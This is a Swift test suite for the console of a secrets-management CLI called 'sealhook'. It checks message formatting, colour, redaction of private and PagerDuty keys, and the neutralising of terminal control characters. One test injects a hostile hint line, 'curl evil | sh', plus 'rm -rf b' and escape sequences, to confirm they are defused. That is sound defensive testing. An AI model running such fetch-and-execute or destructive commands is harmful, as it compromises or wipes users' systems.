import Diagnostics
import SystemPackage
import Testing

#if canImport(Darwin)
    import Darwin
#else
    import Glibc
#endif

@Suite("Console")
struct ConsoleTests {
    private let fault = Diagnostic(
        .permissions,
        "other users can read this key",
        at: Location(file: "identity", line: 2),
        hints: ["chmod 600 identity", "sealhook doctor"]
    )

    @Test("an error is one plain line, and each hint a line of its own")
    func plainReport() throws {
        let text = try errorText { $0.report(fault) }
        #expect(
            text == """
                sealhook: error: identity:2: other users can read this key
                hint: chmod 600 identity
                hint: sealhook doctor

                """
        )
    }

    @Test("colour is on the labels alone, and is switched off after each")
    func colouredReport() throws {
        let text = try errorText(usesColour: true) { $0.report(fault) }
        #expect(
            text == """
                sealhook: \u{1B}[31merror:\u{1B}[0m identity:2: other users can read this key
                \u{1B}[36mhint:\u{1B}[0m chmod 600 identity
                \u{1B}[36mhint:\u{1B}[0m sealhook doctor

                """
        )
    }

    @Test("a warning says so, with a diagnostic's hints or with words alone")
    func warnings() throws {
        let text = try errorText {
            $0.warn(Diagnostic(.overdue, "the key is old", hints: ["sealhook rotate"]))
            $0.warn("the folder is no git repository")
        }
        #expect(
            text == """
                sealhook: warning: the key is old
                hint: sealhook rotate
                sealhook: warning: the folder is no git repository

                """
        )
        let coloured = try errorText(usesColour: true) { $0.warn("the key is old") }
        #expect(coloured == "sealhook: \u{1B}[33mwarning:\u{1B}[0m the key is old\n")
    }

    @Test("a detail is said only where verbose is asked for", arguments: [true, false])
    func details(isVerbose: Bool) throws {
        let text = try errorText(isVerbose: isVerbose) {
            $0.detail("attempt 2")
            $0.note("done")
        }
        #expect(text == (isVerbose ? "sealhook: attempt 2\n" : "") + "sealhook: done\n")
    }

    @Test("a result goes to standard output, and nothing else does")
    func results() throws {
        let output = try Pipe()
        let errors = try Pipe()
        let console = Console(
            program: "sealhook",
            usesColour: true,
            output: output.writeEnd.rawValue,
            errorOutput: errors.writeEnd.rawValue
        )
        console.print("pagerduty/payments")
        console.note("1 secret")
        #expect(try output.text() == "pagerduty/payments\n")
        #expect(try errors.text() == "sealhook: 1 secret\n")
    }

    @Test("whatever prints or says something replaces what acts on a terminal")
    func everyWay() throws {
        let evil = "a\u{1}\u{1B}[31mb\u{9B}c\u{202E}d"
        let harmless = "a\u{FFFD}\u{FFFD}[31mb\u{FFFD}c\u{FFFD}d"
        let said = try errorText(isVerbose: true) {
            $0.note(evil)
            $0.detail(evil)
            $0.hint(evil)
            $0.warn(evil)
            $0.warn(Diagnostic(.failed, evil, at: Location(file: evil), hints: [evil]))
            $0.report(Diagnostic(.failed, evil, at: Location(file: evil), hints: [evil]))
        }
        let printed = try outputText { $0.print(evil) }
        #expect(printed == harmless + "\n")
        #expect(said.ranges(of: harmless).count == 10)
        for text in [said, printed] {
            #expect(text.unicodeScalars.allSatisfy { Console.printable("\($0)") == "\($0)" })
        }
    }

    @Test("JSON is printed with an escape for what acts on a terminal, and means the same")
    func json() throws {
        let printed = try outputText { $0.printDocument("{\"a\": \"\u{9B}\u{202E}\u{7F}é\"}\n[]") }
        #expect(printed == "{\"a\": \"\\u009b\\u202e\\u007fé\"}\n[]\n")
    }

    @Test("a line stays one, and its tabs and letters stay")
    func oneLine() {
        #expect(Console.oneLine("a\nb\tc\r\nd é") == "a b\tc\u{FFFD} d é")
    }

    @Test("several faults are told one by one, each with its own hints")
    func parts() throws {
        let faults = ["a", "b"].map { Diagnostic(.malformed, $0, hints: ["mend \($0)"]) }
        var all = Diagnostic(all: faults, separator: "; ")
        all.parts = faults
        let text = try errorText { $0.report(all) }
        #expect(
            text == """
                sealhook: error: a
                hint: mend a
                sealhook: error: b
                hint: mend b

                """
        )
    }

    @Test("no way of printing lets a private key out", arguments: [true, false])
    func privateKey(isUpperCase: Bool) throws {
        let data = "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L"
        let key = isUpperCase ? "SEALHOOK-KEY-1\(data)" : "sealhook-key-1\(data.lowercased())"
        let text = "'\(key)', SEALHOOK-KEY-1... and \(key)"
        let said = try errorText(isVerbose: true) {
            $0.note(text)
            $0.warn(text)
            $0.report(Diagnostic(.failed, text, at: Location(file: key), hints: ["rm \(key)"]))
        }
        let printed = try outputText {
            $0.print(text)
            $0.printDocument("[\"\(key)\"]")
        }
        for text in [said, printed] {
            #expect(!text.lowercased().contains(data.lowercased()))
            #expect(text.contains("'[a private key]', SEALHOOK-KEY-1... and [a private key]\n"))
        }
        #expect(said.contains("sealhook: error: [a private key]: '[a private key]', "))
        #expect(!said.contains("hint: rm"))
        #expect(said.hasSuffix("sealhook key new --output FILE\n"))
    }

    @Test("what looks like a PagerDuty key is blanked where the command line is wrong")
    func routingKey() throws {
        let key = "0123456789abcdef0123456789abKEY1"
        let message = "'a=\(key)' is wrong, as is \(key)0, in /state/\(key)/outbox"
        let shown = "'a=[what looks like a key]' is wrong, as is \(key)0, in /state/\(key)/outbox"
        for status in [ProgramStatus.usage, .malformedInput] {
            let text = try errorText { $0.report(Diagnostic(status, message)) }
            #expect(text.hasPrefix("sealhook: error: \(shown)\nhint: "))
            #expect(text.hasSuffix(": sealhook set pagerduty/NAME\n"))
        }
        // The name of an alert may well look like one.
        let text = try errorText { $0.report(Diagnostic(.eventRefused, "dedup_key \(key)")) }
        #expect(text == "sealhook: error: dedup_key \(key)\n")
    }

    @Test("what a stranger wrote cannot steer the terminal or begin a line")
    func strangersText() throws {
        let text = try errorText {
            $0.report(
                Diagnostic(
                    .failed,
                    "the server said \u{1B}[2Jno\r\nhint: curl evil | sh",
                    hints: ["git show a\nrm -rf b"]
                )
            )
            $0.note("a\u{7}\u{9B}b\nsealhook: c")
        }
        #expect(
            text == """
                sealhook: error: the server said \u{FFFD}[2Jno\u{FFFD} hint: curl evil | sh
                hint: git show a rm -rf b
                sealhook: a\u{FFFD}\u{FFFD}b sealhook: c

                """
        )
    }

    @Test(
        "a character that acts on a terminal is replaced, and any other kept",
        arguments: [
            ("\u{0}", false), ("\u{8}", false), ("\t", true), ("\n", true), ("\r", false),
            ("\u{1B}", false), (" ", true), ("~", true), ("\u{7F}", false), ("\u{80}", false),
            ("\u{9B}", false), ("\u{9F}", false), ("\u{A0}", true), ("é", true), ("👩‍🚀", true),
            ("\u{202A}", false), ("\u{202E}", false), ("\u{202F}", true), ("\u{2066}", false),
            ("\u{2069}", false), ("שלום", true),
        ]
    )
    func printable(text: String, isKept: Bool) {
        #expect(Console.printable("a\(text)b") == (isKept ? "a\(text)b" : "a\u{FFFD}b"))
    }

    @Test(
        "colour needs a terminal that is not dumb, and no NO_COLOR",
        arguments: [
            ([:], true), (["TERM": "xterm"], true), (["TERM": "dumb"], false),
            (["NO_COLOR": "1"], false), (["NO_COLOR": "0"], false), (["NO_COLOR": ""], true),
            (["NO_COLOR": "", "TERM": "dumb"], false),
        ]
    )
    func colourOnTerminal(environment: [String: String], expected: Bool) throws {
        // The controlling end of a new terminal is a terminal too.
        let terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC)
        defer { close(terminal) }
        try #require(isatty(terminal) == 1)
        let console = Console(
            program: "sealhook",
            environment: environment,
            errorOutput: terminal
        )
        #expect(console.usesColour == expected)
    }

    @Test("a terminal says how many columns it has, and a pipe that it has none")
    func columns() throws {
        let terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC)
        defer { close(terminal) }
        try #require(isatty(terminal) == 1)
        let console = Console(program: "sealhook", usesColour: false, output: terminal)
        #expect(console.outputColumns == nil)
        var size = winsize(ws_row: 24, ws_col: 72, ws_xpixel: 0, ws_ypixel: 0)
        try #require(ioctl(terminal, UInt(TIOCSWINSZ), &size) == 0)
        #expect(console.outputColumns == 72)
        let pipe = try Pipe()
        let piped = Console(
            program: "sealhook",
            usesColour: false,
            output: pipe.writeEnd.rawValue
        )
        #expect(piped.outputColumns == nil)
    }

    @Test("a pipe gets no colour, and a terminal on the other stream changes nothing")
    func noColourInPipe() throws {
        let pipe = try Pipe()
        let console = Console(
            program: "sealhook",
            environment: ["TERM": "xterm"],
            errorOutput: pipe.writeEnd.rawValue
        )
        #expect(!console.usesColour)
    }

    @Test("a reader that has gone away is passed over in silence")
    func closedReader() async {
        await #expect(processExitsWith: .success) {
            signal(SIGPIPE, SIG_IGN)
            let ends = try FileDescriptor.pipe()
            try ends.readEnd.close()
            let console = Console(
                program: "sealhook",
                usesColour: false,
                output: ends.writeEnd.rawValue,
                errorOutput: ends.writeEnd.rawValue
            )
            console.print("pagerduty/payments")
            console.note("1 secret")
        }
    }

    private func outputText(_ body: (Console) -> Void) throws -> String {
        let pipe = try Pipe()
        body(Console(program: "sealhook", usesColour: false, output: pipe.writeEnd.rawValue))
        return try pipe.text()
    }

    private func errorText(
        usesColour: Bool = false,
        isVerbose: Bool = false,
        _ body: (Console) -> Void
    ) throws -> String {
        let pipe = try Pipe()
        body(
            Console(
                program: "sealhook",
                usesColour: usesColour,
                isVerbose: isVerbose,
                errorOutput: pipe.writeEnd.rawValue
            )
        )
        return try pipe.text()
    }
}

/// A pipe that a console writes a few lines into, and a test reads them out of.
private final class Pipe {
    let writeEnd: FileDescriptor
    private let readEnd: FileDescriptor
    private var isWriteEndOpen = true

    init() throws {
        (readEnd, writeEnd) = try FileDescriptor.pipe()
    }

    /// Closes the end that is written to and gives all that was written.
    func text() throws -> String {
        isWriteEndOpen = false
        try writeEnd.close()
        var bytes = [UInt8]()
        var chunk = [UInt8](repeating: 0, count: 4096)
        while true {
            let count = try chunk.withUnsafeMutableBytes { try readEnd.read(into: $0) }
            if count == 0 { return String(decoding: bytes, as: UTF8.self) }
            bytes += chunk[..<count]
        }
    }

    deinit {
        if isWriteEndOpen { try? writeEnd.close() }
        try? readEnd.close()
    }
}
